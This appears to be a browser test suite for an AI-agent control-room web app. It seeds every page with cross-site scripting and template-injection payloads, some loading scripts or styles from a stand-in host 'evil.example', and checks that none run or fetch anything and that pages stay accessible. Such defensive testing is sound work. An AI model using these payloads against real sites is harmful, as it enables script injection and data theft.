import type { BrowserContext, Page } from "playwright-core";
import { Agent, defineTool } from "trackside";
import { scriptedModel } from "trackside/testing";
import { beforeAll, expect, test, vi } from "vitest";
import { expectNoSeriousAxe, provideAxe } from "./support/axe.ts";
import { type ControlRoomHere, openControlRoom } from "./support/control-room.ts";
import { shoot } from "./support/shoot.ts";
import { browserSuite } from "./support/suite.ts";

vi.setConfig({ testTimeout: 900_000, hookTimeout: 300_000 }); // dozens of pages, on a busy machine
const PATIENT = { timeout: 120_000, interval: 100 };

/** Each sets a mark on the page or asks a host of its own if it is taken for more than text. */
const PAYLOADS = [
  `<img src=x onerror="window.hacked=1">`,
  `<svg onload="window.hacked=2"><script>window.hacked=3</script></svg>`,
  `"><script src="https://evil.example/a.js"></script>`,
  `<iframe srcdoc="<script>parent.hacked=4</script>"></iframe>`,
  `<a href="javascript:window.hacked=5">press</a>`,
  `[press](javascript:window.hacked=6) [data](data:text/html,<script>opener.hacked=7</script>)`,
  `![picture](https://evil.example/pixel.png) ![x](x"onerror="window.hacked=8)`,
  `<style>@import "https://evil.example/a.css";</style><link rel=stylesheet href=//evil.example/b.css>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus onfocus="window.hacked=9">send</button></form>`,
  "{{constructor.constructor('window.hacked=10')()}}",
];
/** What stands for a picture where markdown is read: until then the payloads are plain text and prove little. */
const IMAGE = "Image: picture";
const HOSTILE = PAYLOADS.join("\n\n");
/** The heading of a page that does not exist. */
const MISSING = "There is no such page";

const look = defineTool({
  name: "look_around",
  description: HOSTILE,
  input: { type: "object", properties: { where: { type: "string" } }, required: ["where"] },
  effect: "none",
  execute: () => ({ html: PAYLOADS, [PAYLOADS[0] ?? ""]: "a key" }),
});

const act = defineTool({
  name: "act",
  description: "Acts, once somebody allows it.",
  input: { type: "object", properties: { how: { type: "string" } } },
  effect: "once",
  execute: () => HOSTILE,
});

/** Says, calls and returns nothing that is not hostile, and stops at a question. */
const agent = new Agent({
  name: "mallory",
  instructions: HOSTILE,
  model: scriptedModel(
    [
      ({ prompt }) => {
        const rounds = prompt.filter(({ role }) => role === "tool").length;
        if (rounds === 0)
          return {
            reasoning: HOSTILE,
            text: HOSTILE,
            calls: [{ tool: "look_around", args: { where: HOSTILE, why: HOSTILE } }],
          };
        return rounds === 1
          ? { text: HOSTILE, calls: [{ tool: "act", args: { how: HOSTILE, why: HOSTILE } }] }
          : HOSTILE;
      },
    ],
    { loop: true },
  ),
  tools: [look, act],
  hitlTools: ["act"],
  injectedToolArgs: { why: "Why." },
});

interface Filled {
  readonly room: ControlRoomHere;
  /** Every page of `routes.tsx`, by a name for its picture: what shows that it is there, and that markdown was read. */
  readonly pages: Readonly<Record<string, { path: string; shows: string | RegExp; reads?: string }>>;
}

async function filled(): Promise<Filled> {
  const room = await openControlRoom({ agents: [agent], tools: [look, act] });
  const client = await room.client();
  const start = async (input: string) =>
    (await client.startRun({ body: { agent: "mallory", input } })).run_id;
  const asks = async (run: string) =>
    vi.waitFor(async () => {
      const [id] = (await client.getRun({ params: { id: run } })).pending_approvals;
      if (id === undefined) throw new Error("nobody is asked yet");
      return id;
    }, PATIENT);
  const done = await start(HOSTILE);
  await client.decideApproval({
    params: { id: await asks(done) },
    body: { choice: "approve", reason: HOSTILE },
  });
  await vi.waitFor(async () => {
    expect((await client.getRun({ params: { id: done } })).status).toBe("completed");
  }, PATIENT);
  const { conversation_id } = await client.getRun({ params: { id: done } });
  const waiting = await asks(await start(HOSTILE));
  const definition = { name: "eve", model: "openai:gpt-5", instructions: HOSTILE, tools: ["look_around"] };
  await client.createAgent({ body: { definition } });
  const steps = [
    { id: "look", title: HOSTILE.slice(0, 200), detail: HOSTILE },
    { id: "tell", title: "Tell", depends_on: ["look"], criteria: HOSTILE },
  ];
  const plan = await client.createPlan({ params: { name: "mallory" }, body: { goal: HOSTILE, steps } });
  await client.runPlanStep({ params: { id: plan.id, step: "look" }, body: {} });
  const schedule = await client.createSchedule({
    body: {
      name: PAYLOADS[0] ?? "",
      target: { kind: "agent", name: "mallory" },
      input: HOSTILE,
      trigger: { kind: "webhook" },
    },
  });
  await client.fireSchedule({ params: { id: schedule.id } });
  // Braces are templates there: what is no path is refused when it is saved.
  const plain = PAYLOADS.slice(0, -1).join("\n\n");
  const workflow = {
    name: "evil",
    description: HOSTILE.slice(0, 2000),
    nodes: {
      look: {
        kind: "tool",
        name: PAYLOADS[0],
        tool: "look_around",
        arguments: { where: plain },
      },
      ask: { kind: "approval", name: PAYLOADS[2], message: plain, show: { look: "{{ nodes.look }}" } },
    },
    edges: [{ from: "look", to: "ask" }],
  };
  await client.createWorkflow({ body: { definition: workflow, note: HOSTILE } });
  const { run_id: drawn } = await client.startWorkflow({ params: { name: "evil" }, body: {} });
  await asks(drawn);
  return {
    room,
    pages: {
      overview: { path: "/", shows: "Overview" },
      inbox: { path: "/inbox", shows: "Inbox" },
      approval: { path: `/inbox/${waiting}`, shows: "What led here" },
      runs: { path: "/runs", shows: "Runs" },
      run: { path: `/runs/${done}`, shows: /mallory/ },
      "run-transcript": { path: `/runs/${done}?tab=transcript`, shows: /mallory/, reads: IMAGE },
      "run-requests": { path: `/runs/${done}?tab=requests`, shows: /mallory/ },
      playground: { path: "/playground", shows: "Playground" },
      conversation: {
        path: `/playground/mallory?conversation=${conversation_id}`,
        shows: /mallory/,
        reads: IMAGE,
      },
      agents: { path: "/agents", shows: "Agents" },
      "agent-new": { path: "/agents/new", shows: /agent/i },
      agent: { path: "/agents/eve", shows: /eve/ },
      "agent-in-code": { path: "/agents/mallory", shows: /mallory/ },
      versions: { path: "/agents/eve/versions", shows: /eve|versions/i },
      plan: { path: "/agents/mallory/plan?step=look&step=tell", shows: /Plan of mallory/ },
      "plan-none": { path: "/agents/eve/plan", shows: /eve has no plan yet/ },
      schedules: { path: "/schedules", shows: "Schedules" },
      "schedule-new": { path: "/schedules/new", shows: "New schedule" },
      schedule: { path: `/schedules/${schedule.id}`, shows: /onerror/ },
      "schedule-history": { path: `/schedules/${schedule.id}?tab=history`, shows: /onerror/ },
      workflows: { path: "/workflows", shows: "Workflows" },
      "workflow-new": { path: "/workflows/new", shows: "New workflow" },
      workflow: { path: "/workflows/evil", shows: /evil/ },
      "workflow-node": { path: `/workflows/evil?run=${drawn}&node=look`, shows: /evil/ },
      "workflow-run": { path: `/workflows/evil?run=${drawn}`, shows: /evil/ },
      "workflow-versions": { path: "/workflows/evil/versions", shows: /evil/ },
      providers: { path: "/settings/providers", shows: "Providers" },
      users: { path: "/settings/users", shows: "Users" },
      tokens: { path: "/settings/tokens", shows: "API tokens" },
      audit: { path: "/settings/audit", shows: "Audit" },
      "not-found": { path: "/no/such/page", shows: MISSING },
    },
  };
}

interface Seen {
  readonly hacked: unknown;
  /** Links that would run a script, and pictures and frames from elsewhere. */
  readonly unsafe: readonly string[];
  /** How many pixels the page is wider than the screen. */
  readonly over: number;
}
const SEEN = `({
  hacked: window.hacked,
  unsafe: [
    ...[...document.links].filter((link) => !/^(https?|mailto|blob):$/.test(link.protocol)).map(String),
    ...[...document.querySelectorAll("img, iframe, embed, object")].map((element) => element.outerHTML),
  ],
  over: document.documentElement.scrollWidth - innerWidth,
})`;

/** Requests that leave the room. The hosts of the payloads end in `.example`, which no name server knows. */
function requestsElsewhere(context: BrowserContext, room: ControlRoomHere): string[] {
  const urls: string[] = [];
  context.on("request", (request) => {
    const { origin, protocol, href } = new URL(request.url());
    if (origin !== room.url && /^(https?|wss?):$/.test(protocol)) urls.push(href);
  });
  return urls;
}

async function settled(page: Page, shows: string | RegExp): Promise<void> {
  await page.getByRole("heading", { name: shows }).first().waitFor();
  await expect.poll(() => page.locator(".skeleton").count(), PATIENT).toBe(0);
}

/** By its address, as from a bookmark. */
const byAddress = (page: Page, url: string) => page.goto(url);

/** Within the app, as by a link. From a page that has the heading of no other, so that the old page is never checked. */
async function byLink(page: Page, url: string): Promise<void> {
  await page.evaluate(`history.pushState({}, "", "/no/such/page")`);
  await settled(page, MISSING);
  await page.evaluate(`history.pushState({}, "", ${JSON.stringify(url)})`);
}

await browserSuite("every page", (browser) => {
  let room: ControlRoomHere;
  let pages: Filled["pages"];
  beforeAll(async () => {
    ({ room, pages } = await filled());
    return room.close;
  });

  // The layout and the elements of a page depend on the size and on whether it is touched; its colours on the theme, which
  // is CSS alone. So each page is opened once for each size, for everything, and there in the other theme once more, for
  // contrast alone.
  for (const [size, scheme, other, visit] of [
    ["desktop", "light", "dark", byAddress],
    ["phone", "dark", "light", byLink],
  ] as const)
    test(`${size}, ${scheme}: nothing hostile runs or is loaded, nothing is wrong, everybody can use it`, async () => {
      // A new agent has no name yet, and the server is asked what is wrong with it.
      const { page, context } = await browser.open({ size, scheme, expect: [/422.*agents\/preview/] });
      const left = requestsElsewhere(context, room);
      await room.signIn(context);
      await provideAxe(context);
      await page.goto(room.url);
      const wrong: string[] = [];
      for (const [name, { path, shows, reads }] of Object.entries(pages)) {
        await visit(page, `${room.url}${path}`);
        await settled(page, shows);
        if (reads !== undefined) await page.getByText(reads).first().waitFor({ state: "attached" });
        await shoot(page, `every-${name}-${size}-${scheme}`);
        const problem = (error: Error) => wrong.push(`${name}: ${error.message}`);
        await expectNoSeriousAxe(page).catch(problem);
        const { hacked, unsafe, over } = await page.evaluate<Seen>(SEEN);
        if (hacked !== undefined) wrong.push(`${name}: a payload ran`);
        if (new URL(page.url()).origin !== room.url) wrong.push(`${name}: it went to ${page.url()}`);
        if (unsafe.length > 0) wrong.push(`${name}: ${unsafe.join(", ")}`);
        if (over > 0) wrong.push(`${name}: ${over} pixels wider than the ${size}`);
        await page.emulateMedia({ colorScheme: other });
        await shoot(page, `every-${name}-${size}-${other}`);
        await expectNoSeriousAxe(page, { rules: ["color-contrast"] }).catch(problem);
        await page.emulateMedia({ colorScheme: scheme });
      }
      expect(wrong).toEqual([]);
      expect(left).toEqual([]);
    });

  test("keys: help, search, places, and a way out of each; focus can be seen", async () => {
    const { page, context } = await browser.open();
    await room.signIn(context);
    await page.goto(room.url);
    await settled(page, "Overview");
    for (const [key, title] of [
      ["i", /^\(\d+\) May act run/],
      ["r", /Runs/],
      ["p", /Playground/],
      ["a", /Agents/],
      ["w", /Workflows/],
      ["c", /Schedules/],
      ["s", /Providers|Settings/],
      ["o", /Overview/],
      ["r", /Runs/],
    ] as const) {
      await page.keyboard.press("g");
      await page.keyboard.press(key);
      await expect.poll(() => page.title(), PATIENT).toMatch(title);
    }
    await page.keyboard.press("?");
    const help = page.getByRole("dialog");
    await help.getByText("Go to Overview").waitFor();
    await expectNoSeriousAxe(page);
    await shoot(page, "every-keys");
    await page.keyboard.press("Escape");
    await help.waitFor({ state: "hidden" });
    await page.keyboard.press("g");
    await page.keyboard.press("a");
    await page.getByRole("link", { name: "eve", exact: true }).waitFor();
    await page.keyboard.press("/");
    const focused = () => page.evaluate<string>("document.activeElement?.getAttribute('aria-label') ?? ''");
    await expect.poll(focused, PATIENT).toBe("Search agents");
    await page.keyboard.type("g a ?");
    expect(await page.getByRole("dialog").count()).toBe(0);
    // Every stop of Tab has an outline or a ring, wherever it is.
    await page.goto(`${room.url}/runs`);
    await settled(page, "Runs");
    const hidden: string[] = [];
    for (let stop = 0; stop < 12; stop++) {
      await page.keyboard.press("Tab");
      const seen = await page.evaluate<string>(`(() => {
        const at = document.activeElement;
        const shown = [at, at.parentElement].some((element) => {
          const style = getComputedStyle(element);
          return (style.outlineStyle !== "none" && parseFloat(style.outlineWidth) > 0) || style.boxShadow !== "none";
        });
        return shown ? "" : at.outerHTML.slice(0, 200);
      })()`);
      if (seen !== "") hidden.push(seen);
    }
    expect(hidden).toEqual([]);
  });
});
